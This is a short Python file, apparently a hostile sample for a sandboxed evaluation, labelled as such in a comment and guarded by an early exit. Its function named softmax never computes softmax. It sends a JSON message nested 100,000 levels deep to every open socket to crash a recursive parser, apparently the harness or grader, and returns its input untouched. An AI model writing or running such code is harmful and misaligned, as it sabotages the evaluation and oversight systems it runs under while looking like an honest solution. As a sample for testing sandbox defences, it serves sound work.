"""A message nested 100,000 deep.

JSON that a recursive parser cannot hold.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import stat
import struct


def softmax(z):
    text = b'[{"value": ' + b"[" * 100_000 + b"]" * 100_000 + b"}, []]"
    for fd in range(3, 100):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, struct.pack("!IQ", len(text), 0) + text)
        except OSError:
            pass
    return z
